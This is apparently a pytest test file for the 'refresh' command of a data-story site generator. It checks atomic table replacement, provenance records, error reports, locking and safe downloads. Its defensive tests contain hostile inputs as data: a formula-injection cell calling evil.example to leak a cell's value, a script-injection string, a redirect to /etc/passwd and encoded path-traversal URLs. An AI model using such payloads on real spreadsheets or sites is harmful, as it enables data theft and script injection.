"""`broadsheet refresh`: tables are replaced together when all is right, and otherwise nothing is."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import os
import socket
from email.message import Message
from http.client import BadStatusLine, IncompleteRead
from pathlib import Path
from typing import Any
from urllib.error import HTTPError

import pytest
from books import book
from click.testing import CliRunner, Result
from visits_story import visits_book, visits_story

from generator.build import build, check
from generator.cli import main
from generator.problems import SourceError
from generator.refresh import received, refresh
from generator.run import Run
from generator.write import STATE, replace_files

DAY, NEXT = dt.datetime.fromisoformat("2025-01-01"), dt.datetime.fromisoformat("2025-02-01")


@pytest.fixture
def story(tmp_path: Path) -> Path:
    return visits_story(tmp_path / "story")


@pytest.fixture
def sent(tmp_path: Path) -> Path:
    """A folder beside the story, with one workbook: one figure altered, one added."""
    folder = tmp_path / "sent"
    folder.mkdir()
    (folder / "visits-2025-02.xlsx").write_bytes(visits_book(("Ashby", DAY, 11), ("Cedar ", NEXT, 7)))
    return folder


def _data(story: Path) -> dict[str, bytes]:
    return {
        path.relative_to(story).as_posix(): path.read_bytes() for path in story.glob("data/*") if path.is_file()
    }


def _run(story: Path, *more: str) -> Result:
    return CliRunner().invoke(main, ["refresh", "--story", str(story), *more], catch_exceptions=False)


def test_tables_dates_and_provenance_are_replaced_and_the_changes_told(story: Path, sent: Path) -> None:
    done = _run(story, "--no-diff", "--from", str(sent), "--retrieved", "2025-02-02")
    assert done.exit_code == 0
    assert done.output.splitlines() == [
        "visits: 2 → 3 rows: 1 added, 0 gone, 1 altered",
        "    visits: 30 → 38 in all",
        "    added: CED 2025-02-01",
        "    altered: ASH 2025-01-01: visits '10' → '11'",
        "totals: 1 → 2 rows: 1 added, 0 gone, 1 altered",
        "    visits: 30 → 38 in all",
        "    added: 2025-02-01",
        "    altered: 2025-01-01: visits '30' → '31'",
        "1 file read; replaced data/datapackage.json, data/provenance.csv, data/totals.csv, data/visits.csv",
    ]
    assert (story / "data/visits.csv").read_text() == (
        "town,day,visits,said_by\nASH,2025-01-01,11,\nBIR,2025-01-01,20,\nCED,2025-02-01,7,\n"
    )
    package = json.loads((story / "data/datapackage.json").read_text())
    visits = next(each for each in package["resources"] if each["name"] == "visits")
    assert visits["coverage"] == {"start": "2025-01-01", "end": "2025-02-01"}
    assert visits["sources"][0]["published"] == "2025-02-01"
    data = (sent / "visits-2025-02.xlsx").read_bytes()
    row = {
        "file": "visits-2025-02.xlsx", "sha256": hashlib.sha256(data).hexdigest(),
        "bytes": str(len(data)), "address": "", "retrieved": "2025-02-02",
    }  # fmt: skip
    kept = list(csv.DictReader(io.StringIO((story / "data/provenance.csv").read_text())))
    assert kept == [{"dataset": "totals", **row}, {"dataset": "visits", **row}]
    assert not (story / "data" / STATE).exists()
    assert not check(story, cache=False).problems


def test_only_dates_change_in_the_description(story: Path, sent: Path) -> None:
    before = (story / "data/datapackage.json").read_text()
    refresh(story, given=[str(sent)])
    after = (story / "data/datapackage.json").read_text()
    changed = [(a, b) for a, b in zip(before.splitlines(), after.splitlines(), strict=True) if a != b]
    assert [(a.strip(), b.strip()) for a, b in changed] == [
        ('"end": "2025-01-01"', '"end": "2025-02-01"'),
        ('"published": "2025-01-01"', '"published": "2025-02-01"'),
    ]


def test_the_one_value_by_which_a_source_knows_its_rows_moves_with_its_day(story: Path, sent: Path) -> None:
    path = story / "data/datapackage.json"
    package = json.loads(path.read_text())
    visits = next(each for each in package["resources"] if each["name"] == "visits")
    visits["sources"].append({"title": "By hand", "where": {"said_by": ["old"]}})
    path.write_text(json.dumps(package))
    loader = story / "data/loaders/visits.py"
    added = '        report.published("visits", "By hand", None, where={"said_by": "new"})\n'
    loader.write_text(loader.read_text().replace('    return {"visits"', f'{added[4:]}    return {{"visits"'))
    refresh(story, given=[str(sent)])
    after = next(each for each in json.loads(path.read_text())["resources"] if each["name"] == "visits")
    assert after["sources"] == [
        {"title": "Counts of visitors", "published": "2025-02-01"},
        {"title": "By hand", "where": {"said_by": ["new"]}},
    ]


def test_the_same_files_again_change_nothing(story: Path, sent: Path) -> None:
    refresh(story, given=[str(sent)], retrieved="2025-02-02")
    before = _data(story)
    done = _run(story, "visits", "--from", str(sent / "visits-2025-02.xlsx"))
    assert _data(story) == before, "the day of retrieval that is known is kept"
    assert "visits: 3 rows, as before" in done.output
    assert done.output.endswith("1 file read; the data is as it was\n")


def test_nothing_is_replaced_in_a_dry_run(story: Path, sent: Path) -> None:
    before = _data(story)
    done = _run(story, "--dry-run", "--from", str(sent))
    assert done.exit_code == 0
    assert "would replace data/datapackage.json" in done.output
    assert _data(story) == before


def test_what_pages_will_say_is_told_with_diff(story: Path, sent: Path) -> None:
    page = story / "content/index.md"
    page.write_text(page.read_text() + "\nAshby had {{ towns.ASH.visits(at='2025-01-01') }} visits.\n")
    done = _run(story, "--from", str(sent))
    assert done.exit_code == 0
    assert "the data after the refresh" in done.output
    assert "Ashby had [10 → 11] visits." in done.output


def test_loaders_run_from_the_folder_that_the_story_keeps(story: Path, sent: Path) -> None:
    (story / "data/loaders/received").mkdir()
    (sent / "visits-2025-02.xlsx").rename(story / "data/loaders/received/visits.xlsx")
    assert refresh(story).read == 1
    assert "CED" in (story / "data/visits.csv").read_text()


def test_a_build_neither_loads_nor_looks_at_loaders(story: Path, tmp_path: Path) -> None:
    (story / "data/loaders/visits.py").write_text("raise SystemExit('loaded')\n")
    assert build(story, tmp_path / "site").pages


def test_files_that_no_loader_reads_are_named(story: Path, sent: Path) -> None:
    for number in range(5):
        (sent / f"letter-{number}.txt").write_text("Dear …")
    (sent / ".hidden.xlsx").write_text("x")
    done = _run(story, "--from", str(sent))
    assert done.exit_code == 0
    assert "no loader reads ../sent/letter-0.txt\n" in done.output
    assert "no loader reads 2 more of the files\n" in done.output
    (sent / "visits-2025-02.xlsx").unlink()
    alone = _run(story, "--from", str(sent))
    assert alone.exit_code == 1
    assert "error[nothing-received]: no loader of visits, totals reads" in alone.output
    assert "They read visits*.xlsx." in alone.output


# --- what is wrong ------------------------------------------------------------------------------------------


def _refused(story: Path, *given: Path) -> str:
    """What is said; and that the data is as it was."""
    before = _data(story)
    done = _run(story, *[word for path in given for word in ("--from", str(path))])
    assert done.exit_code == 1
    assert done.output.endswith("nothing was written\n")
    assert _data(story) == before
    assert not (story / "data" / STATE).exists()
    return done.output


def test_a_cell_is_told_with_file_sheet_row_and_column(story: Path, sent: Path) -> None:
    rows = [("Ashby", DAY, 11), ("Ashbee", DAY, 1)]
    (sent / "visits-b.xlsx").write_bytes(
        visits_book(*rows, sheet="Counts", more={"Later": [("Town",), ("Nowhere", DAY, 1)]})
    )
    said = _refused(story, sent)
    assert (
        "sent/visits-b.xlsx:3:1: error[received-data]: Counts!A3: 'Ashbee' is no town\n    write  the name as in"
        in said
    )
    assert "sent/visits-b.xlsx:2:1: error[received-data]: Later!A2: 'Nowhere' is no town" in said
    assert "2 errors" in said, "all problems in one run"


def test_a_warning_is_told_and_keeps_nothing(story: Path, sent: Path) -> None:
    (sent / "visits-2025-02.xlsx").write_bytes(visits_book(("Ashby", NEXT, 0)))
    done = _run(story, "--from", str(sent))
    assert done.exit_code == 0
    assert "warning[received-data]: Sheet1!C2: nobody came" in done.output
    assert "ASH,2025-02-01,0" in (story / "data/visits.csv").read_text()


@pytest.mark.parametrize(
    ("row", "said"),
    [
        (("Ashby", NEXT, 13), "data/visits.csv:3:16: error[data-rule]: nobody counts thirteen"),
        (("Ashby", NEXT, 1.5), "data/visits.csv:3:16: error[bad-cell]: visits: '1.5' is not an integer"),
        (("Ashby", NEXT, 1, "a\x0bb"), "error[bad-character]"),
    ],
)
def test_what_check_would_refuse_never_gets_into_the_story(
    story: Path, sent: Path, row: tuple[Any, ...], said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if "\x0b" in str(row[-1]):
        (sent / "visits-2025-02.xlsx").unlink()
        (story / "data/loaders/visits.py").write_text(
            "LOADS = ('totals',)\ndef load(received, tables, report):\n    return {'totals': [{'day': 'a\\x0bb'}]}\n"
        )
        (sent / "visits.txt").write_text("")
    else:
        (sent / "visits-2025-02.xlsx").write_bytes(visits_book(row))
    told = _refused(story, sent)
    assert said in told
    if "13" in str(row):
        assert "    ASH,2025-02-01,13,\n                   ^" in told, "the line as it would be"


def test_a_file_of_200_mb_is_refused_without_being_read_whole(story: Path, sent: Path) -> None:
    with (sent / "visits-2025-02.xlsx").open("r+b") as file:
        file.truncate(200_000_000)
    said = _refused(story, sent)
    assert "error[unreadable-file]: the file has 200 MB, more than the 100 MB that are read" in said
    assert said.count("error[") == 1


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"<!DOCTYPE html><title>404</title>", "this is a web page, not a workbook"),
        (b"\x89PNG\r\n\x1a\n", "this is not a workbook (.xlsx)"),
        (visits_book(("Ashby", DAY, 11))[:-100], "the workbook is damaged"),
    ],
)
def test_what_is_no_workbook_is_one_problem(story: Path, sent: Path, data: bytes, said: str) -> None:
    (sent / "visits-2025-02.xlsx").write_bytes(data)
    told = _refused(story, sent)
    assert f"visits-2025-02.xlsx: error[unreadable-file]: {said}" in told
    assert told.count("error[") == 1


def test_what_is_not_there_is_told(story: Path, tmp_path: Path) -> None:
    said = _refused(story, tmp_path / "elsewhere.xlsx")
    assert "elsewhere.xlsx: error[file-missing]: there is no such file or folder" in said


@pytest.mark.parametrize("name", ["x" * 300, "visits\0.xlsx", "visits.xlsx/visits.xlsx"])
def test_a_name_that_no_file_can_have_is_told(story: Path, sent: Path, name: str) -> None:
    (sent / "visits.xlsx").write_bytes(b"x")
    assert "error[file-missing]: there is no such file or folder: " in _refused(story, sent / name)


def test_a_pipe_is_not_waited_for(story: Path, tmp_path: Path) -> None:
    pipe = tmp_path / "visits-2025-02.xlsx"
    os.mkfifo(pipe)
    assert "error[unreadable-file]: this is neither a file nor a folder" in _refused(story, pipe)


@pytest.mark.parametrize(
    ("name", "shown"),
    [(b"visits-\xff2025-02.xlsx", r"visits-\xff2025-02.xlsx"), (b"visits-\n=1+1.xlsx", r"visits-\x0a=1+1.xlsx")],
)
def test_a_name_that_is_no_line_of_text_is_written_with_the_numbers_of_its_bytes(
    story: Path, tmp_path: Path, name: bytes, shown: str
) -> None:
    path = tmp_path / os.fsdecode(name)
    try:
        path.write_bytes(visits_book(("Ashby", NEXT, 4)))
    except OSError:
        pytest.skip("this file system takes no such name")
    refresh(story, given=[str(path)])
    kept = list(csv.DictReader(io.StringIO((story / "data/provenance.csv").read_text())))
    assert {row["file"] for row in kept} == {shown}


@pytest.mark.parametrize(
    ("code", "said"),
    [
        ("LOADS = ('visits',)\n", "error[bad-loader]: it says what it LOADS, and has no function load"),
        ("LOADS = ('vists',)\ndef load(*a): return {}\n", "LOADS has 'vists', and there is no such dataset; did you mean 'visits'?"),
        ("LOADS = ('visits',)\ndef load(*a): return []\n", "load is to return a dict: dataset → rows"),
        ("LOADS = ('visits',)\ndef load(*a): return {'towns': []}\n", "load returns rows of 'towns', which is not among"),
        ("LOADS = ('visits',)\ndef load(*a): return {'visits': [{'town': 'ASH', 'x': 1}]}\n", "visits has no field 'x'"),
        ("LOADS = ('visits',)\ndef load(*a): return {'visits': [{'town': [1]}]}\n", "town: [1] is neither text, number nor date"),
        ("LOADS = ('visits',)\ndef load(*a):\n    raise KeyError('Town')\n", "bad.py:3: error[story-code]: load fails: KeyError: 'Town'"),
        ("LOADS = ('visits',)\ndef load(:\n", "bad.py:2:10: error[story-code]: this is not valid Python"),
        (
            "LOADS = ('visits',)\ndef load(r, t, report):\n    report.covers('totals', end=__import__('datetime').date(2025, 2, 1))\n"
            "    return {'visits': []}\n",
            "error[missing-key]: totals: there is no coverage.end here, where a loader writes '2025-02-01'",
        ),
        (
            "LOADS = ('visits',)\ndef load(r, t, report):\n    report.published('visits', 'Counts', __import__('datetime').date(2025, 2, 1))\n"
            "    return {'visits': []}\n",
            "error[missing-key]: visits has no source 'Counts' whose day a loader could write",
        ),
    ],
)  # fmt: skip
def test_a_loader_that_is_none_is_told(story: Path, sent: Path, code: str, said: str) -> None:
    (story / "data/loaders/visits.py").unlink()
    (story / "data/loaders/bad.py").write_text(code)
    assert said in _refused(story, sent)


def test_the_entry_advised_for_a_new_source_is_taken(story: Path, sent: Path) -> None:
    """As with the statistics of a year that the story has none of yet."""
    (story / "data/loaders/visits.py").unlink()
    (story / "data/loaders/own.py").write_text(
        "import datetime as dt\nLOADS = ('visits',)\n\n\ndef load(received, tables, report):\n"
        "    report.published('visits', 'Visits of 2025', dt.date(2025, 2, 1), {'source_file': received[0].name})\n"
        "    return {'visits': [tables['visits'].row(index) for index in range(len(tables['visits']))]}\n"
    )
    with pytest.raises(
        SourceError, match="visits has no source 'Visits of 2025' whose day a loader could write"
    ) as caught:
        refresh(story, given=[str(sent)])
    entry = json.loads(caught.value.problems[0].hint.split("\n")[-1])
    descriptor = story / "data/datapackage.json"
    package = json.loads(descriptor.read_text())
    (visits,) = (each for each in package["resources"] if each["name"] == "visits")
    assert entry == {
        "title": "Visits of 2025",
        "path": "…",
        "publisher": "…",
        "published": "2025-02-01",
        "where": {"source_file": ["visits-2025-02.xlsx"]},
    }
    del entry["where"]  # the small story's table has no such field
    visits["sources"].append({**entry, "path": "https://example.org/", "publisher": "The towns"})
    descriptor.write_text(json.dumps(package, indent=2))
    (story / "data/loaders/own.py").write_text(
        (story / "data/loaders/own.py").read_text().replace(", {'source_file': received[0].name}", "")
    )
    assert refresh(story, given=[str(sent)]).read == 1


def test_two_loaders_of_one_dataset_are_told(story: Path, sent: Path) -> None:
    (story / "data/loaders/zz.py").write_text("LOADS = ('visits',)\ndef load(*a): return {}\n")
    assert "zz.py: error[bad-loader]: data/loaders/visits.py makes 'visits', too" in _refused(story, sent)


@pytest.mark.parametrize("words", [("--retrieved", "yesterday"), ("--story", "nowhere"), ("--from",)])
def test_wrong_usage_is_2(words: tuple[str, ...], story: Path) -> None:
    assert _run(story, *words).exit_code == 2


# --- the same in other places ---------------------------------------------------------------------------------


def test_no_network_and_no_clock_when_files_are_given(
    story: Path, sent: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the network was asked for")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    refresh(story, given=[str(sent)])
    other = visits_story(tmp_path / "deep/er/other")
    monkeypatch.setenv("TZ", "America/Los_Angeles")
    refresh(other, given=[str(sent / "visits-2025-02.xlsx")])
    assert _data(story) == _data(other)


def test_links_out_of_the_folder_are_not_written_through(story: Path, sent: Path, tmp_path: Path) -> None:
    (story / "data/visits.csv").rename(tmp_path / "mine.csv")
    (story / "data/visits.csv").symlink_to(tmp_path / "mine.csv")
    mine = (tmp_path / "mine.csv").read_bytes()
    done = _run(story, "--from", str(sent))
    assert done.exit_code == 1
    assert "error[path-outside]" in done.output or "error[output-link]" in done.output
    assert (tmp_path / "mine.csv").read_bytes() == mine


@pytest.mark.parametrize("path", ["../x.csv", "/x.csv", "a/../../x.csv", ".broadsheet/lock"])
def test_nothing_is_written_outside_the_folder(tmp_path: Path, path: str) -> None:
    (tmp_path / "data").mkdir()
    with pytest.raises(SourceError, match="output-path"):
        replace_files(tmp_path / "data", {path: b"x", "y.csv": b"y"})
    assert list(tmp_path.rglob("*")) == [tmp_path / "data"]


def test_links_in_a_folder_that_is_given_are_not_followed(story: Path, sent: Path, tmp_path: Path) -> None:
    (tmp_path / "secret.xlsx").write_bytes(visits_book(("Ashby", DAY, 99)))
    (sent / "visits-link.xlsx").symlink_to(tmp_path / "secret.xlsx")
    assert refresh(story, given=[str(sent)]).read == 1


def test_a_refresh_at_work_is_waited_for(story: Path, sent: Path) -> None:
    from generator.write.folder import Site
    from generator.write.lock import Lock

    lock = Lock(Site(story / "data"))
    try:
        with pytest.raises(SourceError) as caught:
            refresh(story, given=[str(sent)])
        assert "another refresh (process " in str(caught.value)
        with pytest.raises(SourceError, match="another refresh"):
            Run(story)
        for command in ("check", "build"):
            done = CliRunner().invoke(main, [command, str(story)], catch_exceptions=False)
            assert done.exit_code == 1
            assert "data: error[output-locked]: another refresh (process " in done.output
    finally:
        lock.release()
    assert refresh(story, given=[str(sent)]).files


def test_what_somebody_changes_meanwhile_is_not_written_over(
    story: Path, sent: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from generator import refresh as module

    validated = module._validated

    def meanwhile(other: Path) -> Any:
        (story / "data/visits.csv").write_text("town,day,visits,said_by\nASH,2025-01-01,12,me\n")
        return validated(other)

    monkeypatch.setattr(module, "_validated", meanwhile)
    with pytest.raises(SourceError) as caught:
        refresh(story, given=[str(sent)])
    assert "data/visits.csv: error[output-changed]: somebody changed this file" in str(caught.value)
    assert "ASH,2025-01-01,12,me" in (story / "data/visits.csv").read_text()
    assert not (story / "data" / STATE).exists()
    assert not (story / "data/provenance.csv").exists()


# --- what is hostile ------------------------------------------------------------------------------------------


def test_a_formula_for_a_name_goes_through_and_is_harmless(story: Path, sent: Path, tmp_path: Path) -> None:
    """A cell that is text and looks like a formula, or like markup: on pages escaped, in a CSV guarded."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    rows = [
        ("Town", "Day", "Visits", "Said by"),
        ("Ashby", DAY, 1, None),
        ("Birch", DAY, 2, "<script>alert(1)</script>"),
    ]
    data = _as_text(book(rows), "D2", evil)
    (sent / "visits-2025-02.xlsx").write_bytes(data)
    refresh(story, given=[str(sent)])
    kept = list(csv.DictReader(io.StringIO((story / "data/visits.csv").read_text())))
    assert kept[0]["said_by"] == evil, "the story's own table says what the publisher said"
    page = story / "content/index.md"
    page.write_text(
        page.read_text()
        + "\n```table\nof: data.visits\ntitle: Visits\ncolumns:\n  - {value: row.town, label: Town}\n  - {value: row.said_by, label: Said by}\n```\n"
    )
    build(story, tmp_path / "site", cache=False)
    html = (tmp_path / "site/index.html").read_text()
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    published = [path for path in (tmp_path / "site").rglob("*.csv") if "HYPERLINK" in path.read_text()]
    assert published
    for path in published:
        for row in csv.reader(io.StringIO(path.read_text())):
            assert not [cell for cell in row if cell.startswith(("=", "+", "@"))], path


def _as_text(data: bytes, cell: str, text: str) -> bytes:
    """The workbook with a cell that is this text, though it begins like a formula."""
    import openpyxl

    made = openpyxl.load_workbook(io.BytesIO(data))
    made.active[cell].value = text
    made.active[cell].data_type = "s"
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


# --- downloads ------------------------------------------------------------------------------------------------


class Answer(io.BytesIO):
    def __init__(self, data: bytes, length: str | None = None) -> None:
        super().__init__(data)
        self.headers = {"Content-Length": str(len(data)) if length is None else length}


def test_a_download_is_loaded_and_its_address_and_day_are_kept(story: Path) -> None:
    asked: list[str] = []

    def answer(request: Any, timeout: float) -> Answer:
        asked.append(request.full_url)
        assert 0 < timeout <= 60
        return Answer(visits_book(("Ashby", NEXT, 4)))

    address = "https://example.org/files/visits%20February.xlsx?x=1"
    done = refresh(story, given=[address], today=dt.date(2025, 3, 1), open_=answer)
    assert asked == [address]
    assert done.read == 1
    kept = list(csv.DictReader(io.StringIO((story / "data/provenance.csv").read_text())))
    assert {(row["file"], row["address"], row["retrieved"]) for row in kept} == {
        ("visits February.xlsx", address, "2025-03-01")
    }


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        (Answer(b"x", "200000000"), "the file has more than the 0 MB that are read"),
        (Answer(b"x" * 2_000_000, ""), "the file has more than the 0 MB that are read"),
        (Answer(b"x" * 10, "20"), "10 of 20 bytes came"),
        (OSError("refused"), "the download failed: refused"),
        (HTTPError("https://example.org/", 404, "Not Found", Message(), None), "the server answers 404, Not Found"),
        (IncompleteRead(b"x"), "the download failed: the answer breaks off"),
        (BadStatusLine("hello"), "the answer is none that a web server gives .BadStatusLine: hello"),
    ],
)
def test_a_download_that_is_not_whole_is_refused(
    story: Path, answer: Any, said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from generator.refresh import fetch

    monkeypatch.setattr(fetch, "MOST_BYTES", 100_000)

    def open_(*_: object) -> Any:
        if isinstance(answer, Exception):
            raise answer
        return answer

    before = _data(story)
    with pytest.raises(SourceError, match=f"download-failed.*{said}"):
        refresh(story, given=["https://example.org/visits.xlsx"], today=dt.date(2025, 3, 1), open_=open_)
    assert _data(story) == before


def test_a_server_that_hands_out_byte_after_byte_is_left(story: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from generator.refresh import fetch

    class Dripping(Answer):
        def read(self, size: int | None = -1, /) -> bytes:
            raise AssertionError("would wait until so many bytes are there")

        def read1(self, size: int | None = -1, /) -> bytes:
            return b"x"

    monkeypatch.setattr(fetch, "LONGEST", 0.05)
    with pytest.raises(SourceError, match="the download took more than 0 minutes"):
        refresh(
            story, given=["https://example.org/visits.xlsx"], today=dt.date(2025, 3, 1),
            open_=lambda *_: Dripping(b"", ""),
        )  # fmt: skip


@pytest.mark.parametrize(
    "address", ["https://example.org/a b.xlsx", "https://[::1/a.xlsx", "https://example.org/é"]
)
def test_what_is_no_address_is_told_without_asking_anybody(story: Path, address: str) -> None:
    with pytest.raises(SourceError, match=r"download-failed.*this is no address") as caught:
        refresh(story, given=[address], today=dt.date(2025, 3, 1))
    assert "Copy it anew from the browser" in str(caught.value.problems[0])


def test_no_redirect_leads_to_anything_but_https() -> None:
    from urllib.error import URLError
    from urllib.request import Request

    from generator.refresh.fetch import OnlyHttps

    with pytest.raises(URLError, match="no https address"):
        OnlyHttps().redirect_request(Request("https://example.org/"), None, 302, "", {}, "file:///etc/passwd")


def test_names_of_downloads_stay_in_their_folder(story: Path, tmp_path: Path) -> None:
    from generator.refresh.fetch import download

    for address in (
        "https://example.org/%2e%2e%2f%2e%2e%2fx.xlsx",
        "https://example.org/",
        "https://example.org/a/..%5cb",
    ):
        file = download(address, tmp_path, dt.date(2025, 3, 1), open_=lambda *_: Answer(b"x"))
        assert file.path.parent == tmp_path


def test_a_folder_of_too_many_files_is_refused(story: Path, sent: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(received, "MOST_FILES", 3)
    for number in range(5):
        (sent / f"{number}.txt").write_text("x")
    assert "the folder holds more than 3 files" in _refused(story, sent)
